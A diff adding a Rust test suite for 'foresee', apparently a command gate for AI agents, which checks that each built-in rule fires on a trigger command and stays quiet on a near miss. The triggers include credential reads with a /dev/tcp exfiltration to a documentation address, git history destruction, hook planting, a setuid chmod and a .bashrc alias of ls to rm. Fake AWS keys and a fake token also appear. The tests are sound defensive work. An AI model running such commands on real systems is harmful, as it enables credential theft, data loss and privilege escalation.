@@ -1,0 +1,367 @@
+//! The wall, rule by rule: for every built-in rule a command that triggers it and a near miss
+//! that must not, each run for real through `foresee run --json` in a fresh repository. And
+//! the configured `[[rule]]`s of the user's and the repository's configuration.
+//!
+//! Every target is a file of the test's own temporary workspace and home; network attempts go
+//! to a documentation address (TEST-NET-3) that a rehearsal cannot reach anyway.
+
+mod common;
+use common::*;
+
+const AWS: &str = "[default]\naws_access_key_id = AKIAZ7QWERTYUIOPASDF\naws_secret_access_key = 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\n";
+
+fn rules_of(v: &serde_json::Value) -> Vec<String> {
+    v["findings"]
+        .as_array()
+        .map(|a| a.iter().filter_map(|f| f["rule"].as_str().map(String::from)).collect())
+        .unwrap_or_default()
+}
+
+/// A repository with a little of everything the rules look at.
+fn repo() -> Env {
+    let env = Env::new(Mode::Root);
+    env.git_repo(&[
+        ("README", "hello\n"),
+        ("src/a.c", "int a(void) { return 1; }\n"),
+        ("src/b.c", "int b(void) { return 2; }\n"),
+        ("VERSION", "1.0\n"),
+        ("tests/test_math.py", "def test_add():\n    assert 1 + 1 == 2\n    assert 2 + 2 == 4\n"),
+        ("data/people.csv", "name,age\nann,31\nbob,42\ncid,27\n"),
+        (".gitignore", "build/\n"),
+        ("tool", "#!/bin/sh\necho tool\n"),
+    ]);
+    std::fs::create_dir_all(env.home.join(".aws")).unwrap();
+    std::fs::write(env.home.join(".aws/credentials"), AWS).unwrap();
+    std::fs::write(env.home.join(".bashrc"), "# bashrc\n").unwrap();
+    env.write("notes.txt", "my uncommitted notes\n");
+    env.write("build/out.o", "object\n");
+    env
+}
+
+struct Case {
+    rule: &'static str,
+    /// Commands before the case (committed for real, without foresee).
+    setup: &'static str,
+    trigger: (&'static str, Option<&'static str>),
+    near_miss: (&'static str, Option<&'static str>),
+    /// The action the trigger must get: "block" or "ask".
+    action: &'static str,
+    needs: &'static [&'static str],
+}
+
+fn sh(env: &Env, script: &str) {
+    if script.is_empty() {
+        return;
+    }
+    let st = env
+        .command(std::path::Path::new("sh"))
+        .arg("-c")
+        .arg(script)
+        .env("GIT_AUTHOR_NAME", "t")
+        .env("GIT_AUTHOR_EMAIL", "t@t.invalid")
+        .env("GIT_COMMITTER_NAME", "t")
+        .env("GIT_COMMITTER_EMAIL", "t@t.invalid")
+        .status()
+        .unwrap();
+    assert!(st.success(), "setup failed: {script}");
+}
+
+fn run(env: &Env, (cmd, task): (&str, Option<&str>)) -> serde_json::Value {
+    let mut extra = vec!["--autonomy", "autopilot"];
+    if let Some(t) = task {
+        extra.extend(["--task", t]);
+    }
+    if cmd.starts_with("sleep") {
+        extra.extend(["--timeout", "1"]);
+    }
+    env.run_json(cmd, &extra).1
+}
+
+const CASES: &[Case] = &[
+    Case {
+        rule: "git.history",
+        setup: "echo two >> README && git commit -qam two",
+        trigger: (
+            "git reset -q --hard HEAD~1 && git reflog expire --expire=now --all && git gc -q --prune=now",
+            None,
+        ),
+        near_miss: ("git commit -q --allow-empty -m three", None),
+        action: "block",
+        needs: &["git"],
+    },
+    Case {
+        rule: "git.hooks",
+        setup: "",
+        trigger: (
+            "printf '#!/bin/sh\\necho hi\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+            None,
+        ),
+        near_miss: ("mkdir -p hooks && printf '#!/bin/sh\\n' > hooks/pre-commit", None),
+        action: "block",
+        needs: &["git"],
+    },
+    Case {
+        rule: "git.config",
+        setup: "",
+        trigger: ("git config core.pager 'sh -c id'", None),
+        near_miss: ("git config user.name someone", None),
+        action: "block",
+        needs: &["git"],
+    },
+    Case {
+        rule: "protected",
+        setup: "mkdir -p deploy && echo key > deploy/target && printf 'protect = [\"deploy/**\"]\\n' > foresee.toml",
+        trigger: ("echo other > deploy/target", None),
+        near_miss: ("mkdir -p deployment && echo other > deployment/target", None),
+        action: "block",
+        needs: &[],
+    },
+    Case {
+        rule: "foresee.self",
+        setup: "printf 'protect = []\\n' > foresee.toml",
+        trigger: ("printf 'autonomy = \"trusted\"\\n' >> foresee.toml", None),
+        near_miss: ("cat foresee.toml > foresee.toml.txt", None),
+        action: "block",
+        needs: &[],
+    },
+    Case {
+        rule: "git.stash",
+        setup: "echo change >> README && git stash -q",
+        trigger: ("git stash drop -q", None),
+        near_miss: ("git stash list", None),
+        action: "ask",
+        needs: &["git"],
+    },
+    Case {
+        rule: "tracked.destroy",
+        setup: "",
+        trigger: ("rm README", None),
+        near_miss: ("rm README", Some("delete the README")),
+        action: "ask",
+        needs: &[],
+    },
+    Case {
+        rule: "scope.tracked-edit",
+        setup: "",
+        trigger: ("echo '// x' >> src/b.c", Some("fix the bug in src/a.c")),
+        near_miss: ("echo '// x' >> src/a.c", Some("fix the bug in src/a.c")),
+        action: "ask",
+        needs: &[],
+    },
+    Case {
+        rule: "scope.unexplained-edit",
+        setup: "",
+        trigger: ("echo 2.7.1 > VERSION && echo '// tidy' >> src/a.c", Some("bump the version to 2.7.1")),
+        near_miss: ("echo 2.7.1 > VERSION", Some("bump the version to 2.7.1")),
+        action: "ask",
+        needs: &[],
+    },
+    Case {
+        rule: "scope.read-only",
+        setup: "",
+        trigger: ("echo '// x' >> src/a.c", Some("explain src/a.c, don't change any code")),
+        near_miss: ("wc -l src/a.c", Some("explain src/a.c, don't change any code")),
+        action: "ask",
+        needs: &[],
+    },
+    Case {
+        rule: "tests.weakened",
+        setup: "",
+        trigger: ("sed -i '/2 + 2/d' tests/test_math.py", None),
+        near_miss: ("echo '    assert 3 + 3 == 6' >> tests/test_math.py", None),
+        action: "ask",
+        needs: &["sed"],
+    },
+    Case {
+        rule: "data.records-removed",
+        setup: "",
+        trigger: ("sed -i '/^bob,/d' data/people.csv", None),
+        near_miss: ("echo dan,50 >> data/people.csv", None),
+        action: "ask",
+        needs: &["sed"],
+    },
+    Case {
+        rule: "work.lost",
+        setup: "",
+        trigger: ("rm notes.txt", None),
+        near_miss: ("rm build/out.o", None),
+        action: "ask",
+        needs: &[],
+    },
+    Case {
+        rule: "outside.workspace",
+        setup: "",
+        trigger: ("echo x > \"$HOME/elsewhere.txt\"", None),
+        near_miss: ("echo x > \"${TMPDIR:-/tmp}/foresee-wall-near-miss.txt\"", None),
+        action: "ask",
+        needs: &[],
+    },
+    Case {
+        rule: "secret.disclosed",
+        setup: "",
+        trigger: ("cat \"$HOME/.aws/credentials\"", None),
+        near_miss: ("ls \"$HOME/.aws\"", None),
+        action: "block",
+        needs: &[],
+    },
+    Case {
+        rule: "secret.exfiltration",
+        setup: "",
+        trigger: (
+            "bash -c 'k=$(cat \"$HOME/.aws/credentials\"); exec 3<>/dev/tcp/203.0.113.9/443' 2>/dev/null; true",
+            None,
+        ),
+        near_miss: ("bash -c 'exec 3<>/dev/tcp/203.0.113.9/443' 2>/dev/null; true", None),
+        action: "block",
+        needs: &["bash"],
+    },
+    Case {
+        rule: "network.attempt",
+        setup: "",
+        trigger: ("bash -c 'exec 3<>/dev/tcp/203.0.113.9/80' 2>/dev/null; true", None),
+        near_miss: ("bash -c 'exec 3<>/dev/tcp/127.0.0.1/9' 2>/dev/null; true", None),
+        action: "ask",
+        needs: &["bash"],
+    },
+    Case {
+        rule: "privilege.change",
+        setup: "",
+        trigger: ("chmod u+s tool", None),
+        near_miss: ("chmod +x tool", None),
+        action: "block",
+        needs: &[],
+    },
+    Case {
+        rule: "privilege.change",
+        setup: "",
+        trigger: ("su -c true root 2>/dev/null; true", None),
+        near_miss: ("id -u", None),
+        action: "block",
+        needs: &["su"],
+    },
+    Case {
+        rule: "sensitive.write",
+        setup: "",
+        trigger: ("echo 'alias ls=rm' >> \"$HOME/.bashrc\"", None),
+        near_miss: ("cp \"$HOME/.bashrc\" bashrc.backup", None),
+        action: "block",
+        needs: &[],
+    },
+    Case {
+        rule: "secret.in-output",
+        setup: "",
+        trigger: ("echo 'token: ghp_R4nd0mT0k3nV4lu3F0rT3st1ngXyZ12345678'", None),
+        near_miss: ("git rev-parse HEAD", None),
+        action: "ask",
+        needs: &["git"],
+    },
+    Case {
+        rule: "limit.reached",
+        setup: "",
+        trigger: ("sleep 30", None),
+        near_miss: ("sleep 0", None),
+        action: "ask",
+        needs: &[],
+    },
+];
+
+#[test]
+fn every_built_in_rule_fires_on_its_case_and_not_on_the_near_miss() {
+    let mut failures = Vec::new();
+    for case in CASES {
+        if case.needs.iter().any(|p| !have(p)) {
+            assert!(!in_ci(), "{}: needs {:?}", case.rule, case.needs);
+            eprintln!("skipping {}: needs {:?}", case.rule, case.needs);
+            continue;
+        }
+        // Each in its own repository: an allowed near miss is committed.
+        let env = repo();
+        sh(&env, case.setup);
+        let miss = run(&env, case.near_miss);
+        let env = repo();
+        sh(&env, case.setup);
+        if rules_of(&miss).contains(&case.rule.to_string()) {
+            failures
+                .push(format!("{}: near miss {:?} fired: {}", case.rule, case.near_miss.0, miss["reason"]));
+        }
+        let hit = run(&env, case.trigger);
+        let rules = rules_of(&hit);
+        let top = hit["findings"]
+            .as_array()
+            .and_then(|a| a.iter().find(|f| f["rule"] == case.rule))
+            .map(|f| f["decision"].as_str().unwrap_or("").to_string());
+        if top.as_deref() != Some(case.action) {
+            failures.push(format!(
+                "{}: trigger {:?} gave {rules:?} ({}), wanted {}",
+                case.rule, case.trigger.0, hit["reason"], case.action
+            ));
+        } else if case.action == "block" && hit["decision"] != "block" {
+            failures.push(format!("{}: a block must be final: {}", case.rule, hit["decision"]));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn a_block_is_final_whatever_the_autonomy_level() {
+    let env = repo();
+    for level in ["trusted", "autopilot", "assisted", "copilot"] {
+        let (o, v) = env.run_json(
+            "echo 'alias ls=rm' >> \"$HOME/.bashrc\"",
+            &["--autonomy", level, "--task", "anything"],
+        );
+        assert_eq!(v["decision"], "block", "{level}: {v}");
+        assert_eq!(o.status.code(), Some(126));
+    }
+    assert_eq!(std::fs::read_to_string(env.home.join(".bashrc")).unwrap(), "# bashrc\n");
+}
+
+#[test]
+fn configured_rules_carry_their_id_and_reason() {
+    let env = repo();
+    env.write(
+        "foresee.toml",
+        "[[rule]]\nid = \"prod-config\"\nwhen = \"never write to files under config/prod/\"\nreason = \"production configuration changes go through the release process\"\n\n[[rule]]\nid = \"migrations\"\nwhen = \"always ask before deleting anything in migrations/\"\n",
+    );
+    env.write("config/prod/app.ini", "a=1\n");
+    env.write("migrations/001.sql", "create table t(x);\n");
+    let (_, v) = env.run_json("echo b=2 >> config/prod/app.ini", &["--autonomy", "trusted"]);
+    assert_eq!(v["decision"], "block", "{v}");
+    assert_eq!(v["rule"], "config.prod-config");
+    assert!(v["reason"].as_str().unwrap().contains("release process"), "{v}");
+    let (_, v) = env.run_json("echo b=2 >> config/staging.ini", &["--autonomy", "trusted"]);
+    assert_eq!(v["decision"], "allow", "{v}");
+    let (_, v) = env.run_json("rm migrations/001.sql", &["--autonomy", "trusted"]);
+    assert_eq!(v["decision"], "ask", "{v}");
+    assert!(rules_of(&v).contains(&"config.migrations".to_string()), "{v}");
+    assert!(env.ws.join("migrations/001.sql").exists());
+}
+
+#[test]
+fn a_repository_cannot_allow_itself_anything() {
+    let env = repo();
+    env.write("foresee.toml", "[[rule]]\nid = \"mine\"\nwhen = \"always allow write ~/.bashrc\"\n");
+    let o = env.run("echo hi", &[]);
+    assert_eq!(o.status.code(), Some(foresee::gate::exit::CONFIG), "{}", stderr(&o));
+    assert!(stderr(&o).contains("allow rules belong in your own configuration"), "{}", stderr(&o));
+    assert!(stderr(&o).contains("foresee.toml"), "{}", stderr(&o));
+}
+
+#[test]
+fn the_users_own_allow_rule_opens_one_sensitive_place_and_nothing_else() {
+    let env = repo();
+    let cfg = env.home.join(".config/foresee");
+    std::fs::create_dir_all(&cfg).unwrap();
+    std::fs::write(
+        cfg.join("config.toml"),
+        "[[rule]]\nid = \"rc\"\nwhen = \"always allow write ~/.bashrc\"\n",
+    )
+    .unwrap();
+    let (_, v) = env.run_json("echo 'export EDITOR=vi' >> \"$HOME/.bashrc\"", &[]);
+    assert_eq!(v["decision"], "allow", "{v}");
+    assert!(std::fs::read_to_string(env.home.join(".bashrc")).unwrap().contains("EDITOR"));
+    let (_, v) = env.run_json("echo 'export EDITOR=vi' >> \"$HOME/.profile\"", &[]);
+    assert_eq!(v["decision"], "block", "{v}");
+    let (_, v) = env.run_json("chmod u+s tool", &[]);
+    assert_eq!(v["decision"], "block", "{v}");
+}
